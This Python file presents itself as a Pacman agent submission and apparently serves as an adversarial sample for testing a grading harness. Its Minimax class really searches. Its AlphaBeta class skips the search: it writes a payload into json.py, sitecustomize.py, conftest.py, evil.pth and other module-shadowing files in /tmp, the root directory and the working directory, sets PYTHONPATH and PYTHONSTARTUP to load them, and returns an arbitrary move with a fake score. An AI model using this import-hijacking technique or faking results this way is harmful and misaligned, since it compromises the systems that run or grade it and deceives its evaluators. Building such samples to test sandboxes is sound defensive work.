"""Makes files called json.py, struct.py, sitecustomize.py, pacman and numpy in every folder that it can write to, and puts these folders first.
"""

import os
import sys

from pacman import Agent, Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


EVIL = "print('BREACH: imported', __name__)\n"
NAMES = ("json.py", "struct.py", "sitecustomize.py", "usercustomize.py", "pacman.py", "numpy.py", "conftest.py", "evil.pth")


class AlphaBeta(SearchAgent):
    def search(self, state):
        for folder in ("/tmp", os.path.dirname(__file__), "/", os.getcwd()):
            for name in NAMES:
                try:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write(EVIL)
                except OSError:
                    pass
        os.environ["PYTHONPATH"] = "/tmp"
        os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
